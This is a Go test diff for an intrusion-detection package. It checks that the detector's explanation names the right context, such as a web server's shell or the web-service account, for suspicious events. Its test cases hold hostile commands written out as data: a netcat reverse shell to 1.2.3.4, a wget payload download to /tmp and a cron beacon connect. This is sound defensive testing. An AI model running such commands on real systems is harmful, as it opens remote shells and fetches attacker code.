@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/auditchain/auditchain/parser"
@@ -207,5 +208,34 @@ func TestTraversalProbe(t *testing.T) {
 	}
 	if e.state.traversalProbe(nil, "a ../b") {
 		t.Error("a probe without a server")
+	}
+}
+
+// TestPlaceReasonNamesWhatMatched: a reason names the context that placed
+// the act: "a web server's shell" only when a web server is an ancestor; a
+// process of the web-service account whose parent is gone (a nohup'd nc
+// reparented to init) is said to be that account's.
+func TestPlaceReasonNamesWhatMatched(t *testing.T) {
+	exec := parser.KindExec
+	for _, tc := range []struct {
+		name      string
+		in        PlaceInput
+		want, not string
+	}{
+		{"reverse shell, web server ancestor", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "nc -e /bin/sh 1.2.3.4 4446", WebServer: true, WebUser: true},
+			"a web server's shell", ""},
+		{"reverse shell, web account only", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "nc -e /bin/sh 1.2.3.4 4446", WebUser: true},
+			"the web-service account", "web server's"},
+		{"download, web account only", PlaceInput{Default: StageCommandExecution, Kind: exec, Command: "wget http://1.2.3.4/x -O /tmp/x", WebUser: true},
+			"the web-service account", "web server's"},
+		{"cron beacon's connect", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, OpensChannel: true, WebUser: true, Scheduled: true, Port: 4445},
+			"a shell of the web-service account connects out: a reverse shell", "acting for the web server"},
+		{"connect, web account only", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "curl http://h/", WebUser: true, Port: 80},
+			"the web-service account", "acting for the web server"},
+	} {
+		_, why := Place(tc.in)
+		if !strings.Contains(why, tc.want) || tc.not != "" && strings.Contains(why, tc.not) {
+			t.Errorf("%s: %q, want %q without %q", tc.name, why, tc.want, tc.not)
+		}
 	}
 }
